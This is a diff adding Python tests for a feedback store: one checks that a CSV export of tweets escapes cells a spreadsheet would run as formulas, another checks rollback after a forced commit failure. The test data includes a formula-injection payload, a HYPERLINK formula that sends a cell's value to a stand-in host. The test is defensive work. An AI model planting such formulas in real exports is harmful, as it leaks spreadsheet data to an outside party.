@@ -2,6 +2,8 @@
 
 from __future__ import annotations
 
+import csv
+import io
 import sqlite3
 import threading
 import uuid
@@ -164,6 +166,57 @@ def test_export_of_reviewed_rows_is_read_back_by_the_training_reader(store: Feed
     dataset = data.load(path)
     assert dict(zip(dataset.texts, dataset.labels.tolist(), strict=True)) == {
         'delayed again, "great" job, thanks 🙄': 0, "smooth flight, lovely crew": 1}
+
+
+# Texts a spreadsheet would run as formulas, legit tweets that start the same way, and texts that already
+# start with the escape quote: all must come back from the training reader exactly as typed.
+EXPORT_TEXTS = [
+    '=HYPERLINK("http://x.example/?d="&A3,"click")',
+    "@united thanks for the upgrade",
+    "-2 degrees and a one hour de-icing queue",
+    "+1 to the crew on flight 12",
+    "'=1+1 is how I write formulas",
+    "''double quoted start",
+    "'tis the season to lose my bag",
+    "plain tweet, nothing to escape",
+    "a carriage return\rinside a tweet",
+]
+
+
+def test_export_neutralises_formulas_and_the_training_reader_restores_the_texts(
+        store: FeedbackStore, clock: Clock, tmp_path: Path) -> None:
+    for index, text in enumerate([*EXPORT_TEXTS, "\tstarts with a tab", "\rstarts with a return"]):
+        clock.now += 1  # the export is ordered by time
+        rate(store, "down", feedback_id=f"t{index}", text=text)
+        store.review(f"t{index}", true_label="negative" if index % 2 else "positive")
+    csv_text = store.export_reviewed_csv()
+    rows = list(csv.reader(io.StringIO(csv_text, newline="")))[1:]
+    assert all(not cell.startswith(("=", "+", "-", "@", "\t", "\r")) for row in rows for cell in row)
+    assert rows[0][5] == '\'=HYPERLINK("http://x.example/?d="&A3,"click")'
+    data = pytest.importorskip("training.data")
+    path = tmp_path / "reviewed.csv"
+    path.write_text(csv_text, encoding="utf-8")
+    dataset = data.load(path)
+    assert dataset.counts["rows_read"] == len(EXPORT_TEXTS) + 2
+    # The reader strips surrounding whitespace from every text, escaped or not.
+    assert dataset.texts == [*EXPORT_TEXTS, "starts with a tab", "starts with a return"]
+
+
+def test_a_failed_commit_is_rolled_back_and_the_next_write_works(store: FeedbackStore) -> None:
+    # A deferred foreign key is checked only at COMMIT: this trigger makes the commit of one verdict fail.
+    store.db.executescript("""
+        CREATE TABLE parent (id TEXT PRIMARY KEY);
+        CREATE TABLE child (parent_id TEXT REFERENCES parent(id) DEFERRABLE INITIALLY DEFERRED);
+        CREATE TRIGGER poison AFTER INSERT ON feedback WHEN NEW.text = 'poison'
+        BEGIN INSERT INTO child VALUES ('missing'); END;
+    """)
+    store.db.execute("PRAGMA foreign_keys = ON")
+    with pytest.raises(sqlite3.IntegrityError, match="FOREIGN KEY"):
+        rate(store, feedback_id="bad", text="poison")
+    assert not store.db.conn.in_transaction
+    assert store.get("bad") is None  # the failed write left nothing behind
+    assert rate(store, feedback_id="good")["id"] == "good"
+    assert FeedbackStore(store.path).get("good") is not None  # committed: another connection sees it
 
 
 def test_claim_leases_due_rows_once(store: FeedbackStore, clock: Clock) -> None:
